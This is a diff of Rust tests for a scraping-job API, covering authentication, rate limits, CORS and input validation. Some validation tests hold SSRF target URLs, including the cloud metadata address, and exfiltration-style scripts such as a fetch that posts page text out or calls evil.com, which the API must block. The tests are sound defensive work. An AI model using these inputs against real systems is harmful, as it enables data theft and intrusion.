@@ -1,11 +1,29 @@
-use actix_web::{http::StatusCode, test, web, App};
-use api::{create_handler, AppState, INVALID_INTERVAL, INVALID_SCRIPT, INVALID_URL};
+use actix_web::{
+    http::{Method, StatusCode},
+    test, web, App,
+};
+use api::{
+    auth::{ApiKeys, Authentication},
+    cors::{Cors, CorsConfig},
+    create_handler, delete_job_handler, get_job_handler,
+    idempotency::IdempotencyKeys,
+    limits::{Limits, Plan, RateLimit},
+    list_jobs_handler,
+    openapi::{openapi_handler, ApiDoc},
+    renew_handler, test_job_handler, update_job_handler,
+    urls::UrlPolicy,
+    validation::Localize,
+    AppState, Requests, BLOCKED_DOMAIN, DENIED_SCRIPT_API, EMPTY_UPDATE, IDEMPOTENCY_KEY_REUSED, INVALID_ID,
+    INVALID_INTERVAL, INVALID_LIMIT, INVALID_SCHEME, INVALID_SCRIPT, INVALID_SCRIPT_SYNTAX, INVALID_TTL, INVALID_URL,
+    PRIVATE_ADDRESS, SCRIPT_TOO_LONG,
+};
 use async_trait::async_trait;
-use broker::{Broker, BrokerErrors, Consumer, Exchanges, Messages};
+use broker::{Broker, BrokerErrors, Consumer, Exchanges, Job, JobError, JobReply, JobStatus, Messages};
 use parking_lot::Mutex;
 use serde::Deserialize;
 use serde_json::json;
-use std::{collections::HashMap, str::FromStr, sync::Arc};
+use std::{collections::HashMap, env, fs, str::FromStr, sync::Arc};
+use utoipa::OpenApi;
 use uuid::Uuid;
 
 #[derive(Deserialize)]
@@ -13,6 +31,8 @@ pub struct CreateResponse {
     #[serde(skip_serializing_if = "Option::is_none")]
     id: Option<String>,
     #[serde(skip_serializing_if = "Option::is_none")]
+    code: Option<String>,
+    #[serde(skip_serializing_if = "Option::is_none")]
     error: Option<String>,
 }
 
@@ -49,12 +69,24 @@ impl Broker for MockBroker {
     }
 }
 
+// Tests can't rely on DNS
+fn policy() -> UrlPolicy {
+    UrlPolicy {
+        resolve: false,
+        ..UrlPolicy::default()
+    }
+}
+
 fn configure(cfg: &mut web::ServiceConfig) {
     let state = AppState {
         broker: Arc::new(Mutex::new(MockBroker::new())),
     };
 
     cfg.data(state)
+        .app_data(web::Data::new(Requests::default()))
+        .app_data(web::Data::new(Limits::default()))
+        .app_data(web::Data::new(policy()))
+        .app_data(web::Data::new(IdempotencyKeys::default()))
         .route("/create", web::post().to(create_handler::<MockBroker>));
 }
 
@@ -165,6 +197,7 @@ async fn create_success() {
     let response: CreateResponse = test::read_body_json(response).await;
     assert_eq!(response.id.is_some(), true);
     assert_eq!(Uuid::from_str(response.id.clone().unwrap().as_str()).is_ok(), true);
+    assert_eq!(response.code.as_ref().map(|code| code.len()), Some(8));
 
     let broker_lock = broker.lock();
     let sent_msgs_lock = broker_lock.sent_msgs.lock();
@@ -180,14 +213,944 @@ async fn create_success() {
             interval,
             script,
             url,
+            ttl,
+            code,
+            ..
         } => {
             assert_eq!(*id, response.id.unwrap());
             assert_eq!(*url, String::from("https://google.com"));
             assert_eq!(*script, String::from("qwerty"));
-            assert_eq!(*interval, 5)
+            assert_eq!(*interval, 5);
+            assert_eq!(*ttl, Some(2_628_000));
+            assert_eq!(*code, response.code.unwrap())
         }
         _ => {
             panic!("sent message was not of expected type Messages::Create")
         }
     }
 }
+
+#[actix_rt::test]
+async fn create_invalid_ttl() {
+    let mut app = test::init_service(App::new().configure(configure)).await;
+    let body = json!({"url": "https://google.com", "interval": 5, "script": "qwerty", "ttl": 60});
+    let request = test::TestRequest::post().uri("/create").set_json(&body).to_request();
+    let response = test::call_service(&mut app, request).await;
+
+    assert_eq!(
+        response.status(),
+        StatusCode::UNPROCESSABLE_ENTITY,
+        "Response: {:?}",
+        response
+    );
+
+    let response: CreateResponse = test::read_body_json(response).await;
+    assert_eq!(response.error.is_some(), true);
+    assert_eq!(response.error.unwrap(), INVALID_TTL);
+}
+
+#[actix_rt::test]
+async fn create_never_expires() {
+    let broker = Arc::new(Mutex::new(MockBroker::new()));
+    let state = AppState {
+        broker: Arc::clone(&broker),
+    };
+    let mut app = test::init_service(App::new().data(state).configure(configure)).await;
+    let body = json!({"url": "https://google.com", "interval": 5, "script": "qwerty", "ttl": 0});
+    let request = test::TestRequest::post().uri("/create").set_json(&body).to_request();
+    let response = test::call_service(&mut app, request).await;
+
+    assert_eq!(response.status(), StatusCode::OK, "Response: {:?}", response);
+
+    let broker_lock = broker.lock();
+    let sent_msgs_lock = broker_lock.sent_msgs.lock();
+    let msgs = sent_msgs_lock.get(&Exchanges::Scheduler).unwrap();
+
+    match msgs.get(0).unwrap() {
+        Messages::Create { ttl, .. } => assert_eq!(*ttl, None),
+        _ => {
+            panic!("sent message was not of expected type Messages::Create")
+        }
+    }
+}
+
+// Id of a job that the scheduler behind JobsBroker doesn't have
+const MISSING_ID: &str = "0b7ad1fa-2b8f-4a4f-9d3c-0e4bb3c1e2aa";
+// Id of a job that wasn't activated yet
+const PENDING_ID: &str = "5d1c8e2a-7f3b-4c6d-8e9f-1a2b3c4d5e6f";
+
+fn job(id: &str) -> Job {
+    Job {
+        id: id.to_string(),
+        url: String::from("https://google.com"),
+        script: String::from("qwerty"),
+        interval: 5,
+        owner: Some(String::from("api:owner")),
+        status: JobStatus::Active,
+        subscribers: 1,
+        ttl: None,
+        expires_at: None,
+        last_value: None,
+    }
+}
+
+// Responds to the job requests right away, the way the scheduler would
+struct JobsBroker {
+    requests: web::Data<Requests>,
+}
+
+#[async_trait]
+impl Broker for JobsBroker {
+    async fn publish(&self, _exchange: Exchanges, message: Messages) -> Result<(), BrokerErrors> {
+        match message {
+            Messages::GetJob { request_id, id, .. } if id == MISSING_ID => {
+                self.requests.resolve(&request_id, Err(JobError::NotFound));
+            }
+            Messages::GetJob { request_id, id, .. } => {
+                self.requests.resolve(&request_id, Ok(JobReply::Job(job(&id))));
+            }
+            Messages::ListJobs { request_id, .. } => {
+                let reply = JobReply::Jobs {
+                    jobs: vec![job(&Uuid::new_v4().to_string())],
+                    cursor: None,
+                };
+                self.requests.resolve(&request_id, Ok(reply));
+            }
+            Messages::DeleteJob { request_id, .. } => {
+                self.requests.resolve(&request_id, Ok(JobReply::Done));
+            }
+            Messages::RenewJob { request_id, id, .. } if id == MISSING_ID => {
+                self.requests.resolve(&request_id, Err(JobError::NotFound));
+            }
+            Messages::RenewJob { request_id, id, .. } if id == PENDING_ID => {
+                self.requests.resolve(&request_id, Err(JobError::NotActivated));
+            }
+            Messages::RenewJob { request_id, .. } => {
+                self.requests.resolve(&request_id, Ok(JobReply::Done));
+            }
+            // The way the scraper would, scripts that throw fail
+            Messages::TestScrape { request_id, script, .. } if script.starts_with("throw") => {
+                let error = String::from("Error: qwerty");
+                self.requests.resolve_scrape(&request_id, Err(error));
+            }
+            Messages::TestScrape { request_id, .. } => {
+                self.requests.resolve_scrape(&request_id, Ok(json!({"price": 10})));
+            }
+            _ => {}
+        }
+
+        Ok(())
+    }
+
+    async fn subscribe(&self, _exchange: Exchanges) -> Result<Consumer, BrokerErrors> {
+        unimplemented!()
+    }
+}
+
+const KEY: &str = "qwerty";
+const BEARER: &str = "Bearer qwerty";
+
+fn authentication() -> Authentication {
+    let mut keys = ApiKeys::default();
+    keys.insert("owner", &ApiKeys::hash(KEY));
+
+    Authentication::new(Arc::new(keys), false)
+}
+
+fn configure_jobs(cfg: &mut web::ServiceConfig) {
+    let requests = web::Data::new(Requests::default());
+    let state = AppState {
+        broker: Arc::new(Mutex::new(JobsBroker {
+            requests: requests.clone(),
+        })),
+    };
+
+    cfg.data(state)
+        .app_data(requests)
+        .app_data(web::Data::new(Limits::default()))
+        .app_data(web::Data::new(policy()))
+        .app_data(web::Data::new(IdempotencyKeys::default()))
+        .route("/create", web::post().to(create_handler::<JobsBroker>))
+        .route("/renew", web::post().to(renew_handler::<JobsBroker>))
+        .route("/jobs", web::get().to(list_jobs_handler::<JobsBroker>))
+        .route("/jobs/test", web::post().to(test_job_handler::<JobsBroker>))
+        .route("/jobs/{id}", web::get().to(get_job_handler::<JobsBroker>))
+        .route("/jobs/{id}", web::patch().to(update_job_handler::<JobsBroker>))
+        .route("/jobs/{id}", web::delete().to(delete_job_handler::<JobsBroker>));
+}
+
+#[actix_rt::test]
+async fn renew_invalid_id() {
+    let mut app = test::init_service(App::new().wrap(authentication()).configure(configure_jobs)).await;
+    let body = json!({"id": "qwerty"});
+    let request = test::TestRequest::post()
+        .uri("/renew")
+        .header("Authorization", BEARER)
+        .set_json(&body)
+        .to_request();
+    let response = test::call_service(&mut app, request).await;
+
+    assert_eq!(
+        response.status(),
+        StatusCode::UNPROCESSABLE_ENTITY,
+        "Response: {:?}",
+        response
+    );
+
+    let response: CreateResponse = test::read_body_json(response).await;
+    assert_eq!(response.error.unwrap(), INVALID_ID);
+}
+
+#[actix_rt::test]
+async fn renew_success() {
+    let mut app = test::init_service(App::new().wrap(authentication()).configure(configure_jobs)).await;
+    let id = Uuid::new_v4().to_string();
+    let request = test::TestRequest::post()
+        .uri("/renew")
+        .header("Authorization", BEARER)
+        .set_json(&json!({ "id": id }))
+        .to_request();
+    let response = test::call_service(&mut app, request).await;
+
+    assert_eq!(response.status(), StatusCode::OK, "Response: {:?}", response);
+
+    let response: CreateResponse = test::read_body_json(response).await;
+    assert_eq!(response.id, Some(id));
+}
+
+#[actix_rt::test]
+async fn renew_not_found() {
+    let mut app = test::init_service(App::new().wrap(authentication()).configure(configure_jobs)).await;
+    let request = test::TestRequest::post()
+        .uri("/renew")
+        .header("Authorization", BEARER)
+        .set_json(&json!({ "id": MISSING_ID }))
+        .to_request();
+    let response = test::call_service(&mut app, request).await;
+
+    assert_eq!(response.status(), StatusCode::NOT_FOUND, "Response: {:?}", response);
+}
+
+#[actix_rt::test]
+async fn renew_not_activated() {
+    let mut app = test::init_service(App::new().wrap(authentication()).configure(configure_jobs)).await;
+    let request = test::TestRequest::post()
+        .uri("/renew")
+        .header("Authorization", BEARER)
+        .set_json(&json!({ "id": PENDING_ID }))
+        .to_request();
+    let response = test::call_service(&mut app, request).await;
+
+    assert_eq!(response.status(), StatusCode::CONFLICT, "Response: {:?}", response);
+}
+
+#[actix_rt::test]
+async fn renew_missing_key() {
+    let mut app = test::init_service(App::new().wrap(authentication()).configure(configure_jobs)).await;
+    let request = test::TestRequest::post()
+        .uri("/renew")
+        .set_json(&json!({ "id": Uuid::new_v4().to_string() }))
+        .to_request();
+    let response = test::call_service(&mut app, request).await;
+
+    assert_eq!(response.status(), StatusCode::UNAUTHORIZED, "Response: {:?}", response);
+}
+
+#[actix_rt::test]
+async fn get_job_invalid_id() {
+    let mut app = test::init_service(App::new().wrap(authentication()).configure(configure_jobs)).await;
+    let request = test::TestRequest::get()
+        .uri("/jobs/qwerty")
+        .header("Authorization", BEARER)
+        .to_request();
+    let response = test::call_service(&mut app, request).await;
+
+    assert_eq!(
+        response.status(),
+        StatusCode::UNPROCESSABLE_ENTITY,
+        "Response: {:?}",
+        response
+    );
+
+    let response: CreateResponse = test::read_body_json(response).await;
+    assert_eq!(response.error.unwrap(), INVALID_ID);
+}
+
+#[actix_rt::test]
+async fn get_job_success() {
+    let mut app = test::init_service(App::new().wrap(authentication()).configure(configure_jobs)).await;
+    let id = Uuid::new_v4().to_string();
+    let request = test::TestRequest::get()
+        .uri(&format!("/jobs/{}", id))
+        .header("Authorization", BEARER)
+        .to_request();
+    let response = test::call_service(&mut app, request).await;
+
+    assert_eq!(response.status(), StatusCode::OK, "Response: {:?}", response);
+
+    let response: Job = test::read_body_json(response).await;
+    assert_eq!(response.id, id);
+    assert_eq!(response.status, JobStatus::Active);
+}
+
+#[actix_rt::test]
+async fn get_job_not_found() {
+    let mut app = test::init_service(App::new().wrap(authentication()).configure(configure_jobs)).await;
+    let request = test::TestRequest::get()
+        .uri(&format!("/jobs/{}", MISSING_ID))
+        .header("Authorization", BEARER)
+        .to_request();
+    let response = test::call_service(&mut app, request).await;
+
+    assert_eq!(response.status(), StatusCode::NOT_FOUND, "Response: {:?}", response);
+
+    let response: CreateResponse = test::read_body_json(response).await;
+    assert!(response.error.is_some());
+}
+
+#[actix_rt::test]
+async fn list_jobs_invalid_limit() {
+    let mut app = test::init_service(App::new().wrap(authentication()).configure(configure_jobs)).await;
+    let request = test::TestRequest::get()
+        .uri("/jobs?limit=1000")
+        .header("Authorization", BEARER)
+        .to_request();
+    let response = test::call_service(&mut app, request).await;
+
+    assert_eq!(
+        response.status(),
+        StatusCode::UNPROCESSABLE_ENTITY,
+        "Response: {:?}",
+        response
+    );
+
+    let response: CreateResponse = test::read_body_json(response).await;
+    assert_eq!(response.error.unwrap(), INVALID_LIMIT);
+}
+
+#[actix_rt::test]
+async fn list_jobs_success() {
+    let mut app = test::init_service(App::new().wrap(authentication()).configure(configure_jobs)).await;
+    let request = test::TestRequest::get()
+        .uri("/jobs")
+        .header("Authorization", BEARER)
+        .to_request();
+    let response = test::call_service(&mut app, request).await;
+
+    assert_eq!(response.status(), StatusCode::OK, "Response: {:?}", response);
+
+    let response: serde_json::Value = test::read_body_json(response).await;
+    assert_eq!(response["jobs"].as_array().map(|jobs| jobs.len()), Some(1));
+}
+
+#[actix_rt::test]
+async fn update_job_empty() {
+    let mut app = test::init_service(App::new().wrap(authentication()).configure(configure_jobs)).await;
+    let uri = format!("/jobs/{}", Uuid::new_v4());
+    let request = test::TestRequest::patch()
+        .uri(&uri)
+        .header("Authorization", BEARER)
+        .set_json(&json!({}))
+        .to_request();
+    let response = test::call_service(&mut app, request).await;
+
+    assert_eq!(
+        response.status(),
+        StatusCode::UNPROCESSABLE_ENTITY,
+        "Response: {:?}",
+        response
+    );
+
+    let response: CreateResponse = test::read_body_json(response).await;
+    assert_eq!(response.error.unwrap(), EMPTY_UPDATE);
+}
+
+#[actix_rt::test]
+async fn delete_job_success() {
+    let mut app = test::init_service(App::new().wrap(authentication()).configure(configure_jobs)).await;
+    let uri = format!("/jobs/{}", Uuid::new_v4());
+    let request = test::TestRequest::delete()
+        .uri(&uri)
+        .header("Authorization", BEARER)
+        .to_request();
+    let response = test::call_service(&mut app, request).await;
+
+    assert_eq!(response.status(), StatusCode::NO_CONTENT, "Response: {:?}", response);
+}
+
+#[actix_rt::test]
+async fn jobs_missing_key() {
+    let mut app = test::init_service(App::new().wrap(authentication()).configure(configure_jobs)).await;
+    let request = test::TestRequest::get().uri("/jobs").to_request();
+    let response = test::call_service(&mut app, request).await;
+
+    assert_eq!(response.status(), StatusCode::UNAUTHORIZED, "Response: {:?}", response);
+}
+
+#[actix_rt::test]
+async fn jobs_invalid_key() {
+    let mut app = test::init_service(App::new().wrap(authentication()).configure(configure_jobs)).await;
+    let request = test::TestRequest::get()
+        .uri("/jobs")
+        .header("Authorization", "Bearer asdfgh")
+        .to_request();
+    let response = test::call_service(&mut app, request).await;
+
+    assert_eq!(response.status(), StatusCode::UNAUTHORIZED, "Response: {:?}", response);
+
+    let response: CreateResponse = test::read_body_json(response).await;
+    assert!(response.error.is_some());
+}
+
+#[actix_rt::test]
+async fn create_with_key() {
+    let broker = Arc::new(Mutex::new(MockBroker::new()));
+    let state = AppState {
+        broker: Arc::clone(&broker),
+    };
+    let mut keys = ApiKeys::default();
+    keys.insert("owner", &ApiKeys::hash(KEY));
+    let mut app = test::init_service(
+        App::new()
+            .wrap(Authentication::new(Arc::new(keys), true))
+            .data(state)
+            .configure(configure),
+    )
+    .await;
+    let body = json!({"url": "https://google.com", "interval": 5, "script": "qwerty"});
+    let request = test::TestRequest::post()
+        .uri("/create")
+        .header("Authorization", BEARER)
+        .set_json(&body)
+        .to_request();
+    let response = test::call_service(&mut app, request).await;
+
+    assert_eq!(response.status(), StatusCode::OK, "Response: {:?}", response);
+
+    let broker_lock = broker.lock();
+    let sent_msgs_lock = broker_lock.sent_msgs.lock();
+    match sent_msgs_lock.get(&Exchanges::Scheduler).and_then(|msgs| msgs.get(0)) {
+        Some(Messages::Create { owner, .. }) => assert_eq!(owner.as_deref(), Some("api:owner")),
+        _ => panic!("sent message was not of expected type Messages::Create"),
+    }
+}
+
+#[actix_rt::test]
+async fn create_rate_limited() {
+    let plan = Plan {
+        rate: Some(1),
+        ..Plan::default()
+    };
+    let limits = Arc::new(Limits::new(plan, Plan::default()));
+    let mut app = test::init_service(App::new().wrap(RateLimit::new(limits)).configure(configure)).await;
+    let body = json!({"url": "https://google.com", "interval": 5, "script": "qwerty"});
+
+    let request = test::TestRequest::post().uri("/create").set_json(&body).to_request();
+    let response = test::call_service(&mut app, request).await;
+    assert_eq!(response.status(), StatusCode::OK, "Response: {:?}", response);
+
+    let request = test::TestRequest::post().uri("/create").set_json(&body).to_request();
+    let response = test::call_service(&mut app, request).await;
+    assert_eq!(
+        response.status(),
+        StatusCode::TOO_MANY_REQUESTS,
+        "Response: {:?}",
+        response
+    );
+    assert_eq!(
+        response
+            .headers()
+            .get("Retry-After")
+            .and_then(|value| value.to_str().ok()),
+        Some("60")
+    );
+}
+
+#[actix_rt::test]
+async fn create_interval_below_plan() {
+    let plan = Plan {
+        min_interval: Some(60),
+        ..Plan::default()
+    };
+    let limits = web::Data::new(Limits::new(plan, Plan::default()));
+    let mut app = test::init_service(App::new().configure(configure).app_data(limits)).await;
+    let body = json!({"url": "https://google.com", "interval": 5, "script": "qwerty"});
+    let request = test::TestRequest::post().uri("/create").set_json(&body).to_request();
+    let response = test::call_service(&mut app, request).await;
+
+    assert_eq!(response.status(), StatusCode::FORBIDDEN, "Response: {:?}", response);
+
+    let response: CreateResponse = test::read_body_json(response).await;
+    assert!(response.error.is_some());
+}
+
+#[actix_rt::test]
+async fn create_max_jobs() {
+    let plan = Plan {
+        max_jobs: Some(1),
+        ..Plan::default()
+    };
+    let limits = web::Data::new(Limits::new(Plan::default(), plan));
+    let mut app = test::init_service(
+        App::new()
+            .wrap(authentication())
+            .configure(configure_jobs)
+            .app_data(limits),
+    )
+    .await;
+    let body = json!({"url": "https://google.com", "interval": 5, "script": "qwerty"});
+    let request = test::TestRequest::post()
+        .uri("/create")
+        .header("Authorization", BEARER)
+        .set_json(&body)
+        .to_request();
+    let response = test::call_service(&mut app, request).await;
+
+    assert_eq!(response.status(), StatusCode::FORBIDDEN, "Response: {:?}", response);
+}
+
+#[actix_rt::test]
+async fn cors_preflight() {
+    let mut app = test::init_service(App::new().wrap(Cors::new(CorsConfig::default())).configure(configure)).await;
+    let request = test::TestRequest::with_uri("/create")
+        .method(Method::OPTIONS)
+        .header("Origin", "http://localhost:3000")
+        .header("Access-Control-Request-Method", "POST")
+        .to_request();
+    let response = test::call_service(&mut app, request).await;
+
+    assert_eq!(response.status(), StatusCode::NO_CONTENT, "Response: {:?}", response);
+    assert_eq!(
+        response
+            .headers()
+            .get("Access-Control-Allow-Origin")
+            .and_then(|value| value.to_str().ok()),
+        Some("http://localhost:3000")
+    );
+    assert!(response.headers().contains_key("Access-Control-Allow-Methods"));
+}
+
+#[actix_rt::test]
+async fn cors_error_response() {
+    let config = CorsConfig {
+        origins: vec![String::from("https://*.example.com")],
+        ..CorsConfig::default()
+    };
+    let mut app = test::init_service(App::new().wrap(Cors::new(config)).configure(configure)).await;
+    let body = json!({"url": "", "interval": 5, "script": "qwerty"});
+    let request = test::TestRequest::post()
+        .uri("/create")
+        .header("Origin", "https://app.example.com")
+        .set_json(&body)
+        .to_request();
+    let response = test::call_service(&mut app, request).await;
+
+    assert_eq!(
+        response.status(),
+        StatusCode::UNPROCESSABLE_ENTITY,
+        "Response: {:?}",
+        response
+    );
+    assert_eq!(
+        response
+            .headers()
+            .get("Access-Control-Allow-Origin")
+            .and_then(|value| value.to_str().ok()),
+        Some("https://app.example.com")
+    );
+}
+
+#[actix_rt::test]
+async fn cors_unknown_origin() {
+    let mut app = test::init_service(App::new().wrap(Cors::new(CorsConfig::default())).configure(configure)).await;
+    let body = json!({"url": "https://google.com", "interval": 5, "script": "qwerty"});
+    let request = test::TestRequest::post()
+        .uri("/create")
+        .header("Origin", "https://example.com")
+        .set_json(&body)
+        .to_request();
+    let response = test::call_service(&mut app, request).await;
+
+    assert_eq!(response.status(), StatusCode::OK, "Response: {:?}", response);
+    assert!(!response.headers().contains_key("Access-Control-Allow-Origin"));
+}
+
+#[actix_rt::test]
+async fn create_invalid_scheme() {
+    let mut app = test::init_service(App::new().configure(configure)).await;
+    let body = json!({"url": "ftp://google.com", "interval": 5, "script": "qwerty"});
+    let request = test::TestRequest::post().uri("/create").set_json(&body).to_request();
+    let response = test::call_service(&mut app, request).await;
+
+    assert_eq!(
+        response.status(),
+        StatusCode::UNPROCESSABLE_ENTITY,
+        "Response: {:?}",
+        response
+    );
+
+    let response: CreateResponse = test::read_body_json(response).await;
+    assert_eq!(response.error.unwrap(), INVALID_SCHEME);
+}
+
+#[actix_rt::test]
+async fn create_private_address() {
+    let mut app = test::init_service(App::new().configure(configure)).await;
+
+    for url in &[
+        "http://127.0.0.1:8080",
+        "http://169.254.169.254/latest",
+        "http://[::ffff:10.0.0.1]",
+    ] {
+        let body = json!({"url": url, "interval": 5, "script": "qwerty"});
+        let request = test::TestRequest::post().uri("/create").set_json(&body).to_request();
+        let response = test::call_service(&mut app, request).await;
+
+        let response: CreateResponse = test::read_body_json(response).await;
+        assert_eq!(response.error.as_deref(), Some(PRIVATE_ADDRESS), "URL: {}", url);
+    }
+}
+
+#[actix_rt::test]
+async fn create_resolves_to_private_address() {
+    let policy = web::Data::new(UrlPolicy::default());
+    let mut app = test::init_service(App::new().configure(configure).app_data(policy)).await;
+    let body = json!({"url": "http://localhost:8080", "interval": 5, "script": "qwerty"});
+    let request = test::TestRequest::post().uri("/create").set_json(&body).to_request();
+    let response = test::call_service(&mut app, request).await;
+
+    let response: CreateResponse = test::read_body_json(response).await;
+    assert_eq!(response.error.unwrap(), PRIVATE_ADDRESS);
+}
+
+#[actix_rt::test]
+async fn create_denied_domain() {
+    let policy = web::Data::new(UrlPolicy {
+        denied_domains: vec![String::from("example.com")],
+        ..policy()
+    });
+    let mut app = test::init_service(App::new().configure(configure).app_data(policy)).await;
+    let body = json!({"url": "https://api.example.com", "interval": 5, "script": "qwerty"});
+    let request = test::TestRequest::post().uri("/create").set_json(&body).to_request();
+    let response = test::call_service(&mut app, request).await;
+
+    let response: CreateResponse = test::read_body_json(response).await;
+    assert_eq!(response.error.unwrap(), BLOCKED_DOMAIN);
+}
+
+#[actix_rt::test]
+async fn create_script_too_long() {
+    let mut app = test::init_service(App::new().configure(configure)).await;
+    let script = format!("return '{}';", "a".repeat(10_000));
+    let body = json!({"url": "https://google.com", "interval": 5, "script": script});
+    let request = test::TestRequest::post().uri("/create").set_json(&body).to_request();
+    let response = test::call_service(&mut app, request).await;
+
+    let response: CreateResponse = test::read_body_json(response).await;
+    assert_eq!(response.error.unwrap(), SCRIPT_TOO_LONG);
+}
+
+#[actix_rt::test]
+async fn create_invalid_script_syntax() {
+    let mut app = test::init_service(App::new().configure(configure)).await;
+    let body = json!({"url": "https://google.com", "interval": 5, "script": "return document.querySelector(;"});
+    let request = test::TestRequest::post().uri("/create").set_json(&body).to_request();
+    let response = test::call_service(&mut app, request).await;
+
+    assert_eq!(
+        response.status(),
+        StatusCode::UNPROCESSABLE_ENTITY,
+        "Response: {:?}",
+        response
+    );
+
+    let response: CreateResponse = test::read_body_json(response).await;
+    assert_eq!(response.error.unwrap(), INVALID_SCRIPT_SYNTAX);
+}
+
+#[actix_rt::test]
+async fn create_denied_script_api() {
+    let mut app = test::init_service(App::new().configure(configure)).await;
+
+    for script in &[
+        "fetch('https://example.com', { method: 'POST', body: document.body.innerText });",
+        "return window['eval']('1 + 1');",
+        "import('https://example.com/script.js');",
+    ] {
+        let body = json!({"url": "https://google.com", "interval": 5, "script": script});
+        let request = test::TestRequest::post().uri("/create").set_json(&body).to_request();
+        let response = test::call_service(&mut app, request).await;
+
+        let response: CreateResponse = test::read_body_json(response).await;
+        assert_eq!(response.error.as_deref(), Some(DENIED_SCRIPT_API), "Script: {}", script);
+    }
+}
+
+#[actix_rt::test]
+async fn create_valid_script() {
+    let mut app = test::init_service(App::new().configure(configure)).await;
+    let script = "const price = document.querySelector('.price');\nreturn price ? price.textContent / 2 : null;";
+    let body = json!({"url": "https://google.com", "interval": 5, "script": script});
+    let request = test::TestRequest::post().uri("/create").set_json(&body).to_request();
+    let response = test::call_service(&mut app, request).await;
+
+    assert_eq!(response.status(), StatusCode::OK, "Response: {:?}", response);
+}
+
+#[actix_rt::test]
+async fn create_field_errors() {
+    let mut app = test::init_service(App::new().configure(configure)).await;
+    let body = json!({"url": "qwerty", "interval": 7, "script": "qwerty"});
+    let request = test::TestRequest::post().uri("/create").set_json(&body).to_request();
+    let response = test::call_service(&mut app, request).await;
+
+    assert_eq!(
+        response.status(),
+        StatusCode::UNPROCESSABLE_ENTITY,
+        "Response: {:?}",
+        response
+    );
+
+    let response: serde_json::Value = test::read_body_json(response).await;
+    assert_eq!(
+        response["errors"],
+        json!([
+            {"field": "url", "code": "invalid_url", "message": INVALID_URL},
+            {
+                "field": "interval",
+                "code": "invalid_interval",
+                "message": INVALID_INTERVAL,
+                "params": {"min": 5, "max": 604_800, "multiple_of": 5}
+            }
+        ])
+    );
+    assert_eq!(
+        response["error"],
+        json!(format!("{}. {}", INVALID_URL, INVALID_INTERVAL))
+    );
+}
+
+#[actix_rt::test]
+async fn create_localized_errors() {
+    let mut app = test::init_service(App::new().wrap(Localize).configure(configure)).await;
+    let body = json!({"url": "", "interval": 5, "script": "qwerty"});
+    let request = test::TestRequest::post()
+        .uri("/create")
+        .header("Accept-Language", "de-DE, ru;q=0.9, en;q=0.8")
+        .set_json(&body)
+        .to_request();
+    let response = test::call_service(&mut app, request).await;
+
+    assert_eq!(
+        response.status(),
+        StatusCode::UNPROCESSABLE_ENTITY,
+        "Response: {:?}",
+        response
+    );
+    assert_eq!(
+        response
+            .headers()
+            .get("Content-Language")
+            .and_then(|value| value.to_str().ok()),
+        Some("ru")
+    );
+
+    let response: serde_json::Value = test::read_body_json(response).await;
+    assert_eq!(response["errors"][0]["code"], json!("invalid_url"));
+    assert_eq!(
+        response["errors"][0]["message"],
+        json!("URL не должен быть пустым и должен быть корректным")
+    );
+}
+
+// The committed document is what clients are generated from. after changing the api, update it
+// with UPDATE_OPENAPI=1 cargo test -p api openapi_spec
+#[test]
+fn openapi_spec() {
+    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/openapi.json");
+    let spec = ApiDoc::openapi().to_pretty_json().unwrap() + "\n";
+
+    if env::var("UPDATE_OPENAPI").is_ok() {
+        fs::write(path, &spec).unwrap();
+        return;
+    }
+
+    let committed = fs::read_to_string(path).unwrap();
+    assert!(
+        spec == committed,
+        "tests/openapi.json is out of date. run UPDATE_OPENAPI=1 cargo test -p api openapi_spec"
+    );
+}
+
+#[actix_rt::test]
+async fn openapi_json() {
+    let mut app = test::init_service(App::new().route("/openapi.json", web::get().to(openapi_handler))).await;
+    let request = test::TestRequest::get().uri("/openapi.json").to_request();
+    let response = test::call_service(&mut app, request).await;
+
+    assert_eq!(response.status(), StatusCode::OK, "Response: {:?}", response);
+
+    let response: serde_json::Value = test::read_body_json(response).await;
+    assert!(response["paths"]["/create"]["post"].is_object());
+    assert!(response["components"]["schemas"]["Job"].is_object());
+}
+
+#[actix_rt::test]
+async fn test_job_success() {
+    let mut app = test::init_service(App::new().wrap(authentication()).configure(configure_jobs)).await;
+    let body = json!({"url": "https://google.com", "script": "return { price: 10 };"});
+    let request = test::TestRequest::post()
+        .uri("/jobs/test")
+        .header("Authorization", BEARER)
+        .set_json(&body)
+        .to_request();
+    let response = test::call_service(&mut app, request).await;
+
+    assert_eq!(response.status(), StatusCode::OK, "Response: {:?}", response);
+
+    let response: serde_json::Value = test::read_body_json(response).await;
+    assert_eq!(response, json!({"value": {"price": 10}}));
+}
+
+#[actix_rt::test]
+async fn test_job_script_error() {
+    let mut app = test::init_service(App::new().wrap(authentication()).configure(configure_jobs)).await;
+    let body = json!({"url": "https://google.com", "script": "throw new Error('qwerty');"});
+    let request = test::TestRequest::post()
+        .uri("/jobs/test")
+        .header("Authorization", BEARER)
+        .set_json(&body)
+        .to_request();
+    let response = test::call_service(&mut app, request).await;
+
+    assert_eq!(response.status(), StatusCode::OK, "Response: {:?}", response);
+
+    let response: serde_json::Value = test::read_body_json(response).await;
+    assert_eq!(response, json!({"error": "Error: qwerty"}));
+}
+
+#[actix_rt::test]
+async fn test_job_invalid_script() {
+    let mut app = test::init_service(App::new().wrap(authentication()).configure(configure_jobs)).await;
+    let body = json!({"url": "https://google.com", "script": "return fetch('https://evil.com');"});
+    let request = test::TestRequest::post()
+        .uri("/jobs/test")
+        .header("Authorization", BEARER)
+        .set_json(&body)
+        .to_request();
+    let response = test::call_service(&mut app, request).await;
+
+    assert_eq!(
+        response.status(),
+        StatusCode::UNPROCESSABLE_ENTITY,
+        "Response: {:?}",
+        response
+    );
+
+    let response: CreateResponse = test::read_body_json(response).await;
+    assert_eq!(response.error.unwrap(), DENIED_SCRIPT_API);
+}
+
+#[actix_rt::test]
+async fn test_job_missing_key() {
+    let mut app = test::init_service(App::new().wrap(authentication()).configure(configure_jobs)).await;
+    let body = json!({"url": "https://google.com", "script": "return { price: 10 };"});
+    let request = test::TestRequest::post().uri("/jobs/test").set_json(&body).to_request();
+    let response = test::call_service(&mut app, request).await;
+
+    assert_eq!(response.status(), StatusCode::UNAUTHORIZED, "Response: {:?}", response);
+}
+
+#[actix_rt::test]
+async fn create_idempotent_retry() {
+    let broker = Arc::new(Mutex::new(MockBroker::new()));
+    let state = AppState {
+        broker: Arc::clone(&broker),
+    };
+    let mut app = test::init_service(App::new().wrap(authentication()).data(state).configure(configure)).await;
+    let body = json!({"url": "https://google.com", "interval": 5, "script": "qwerty"});
+
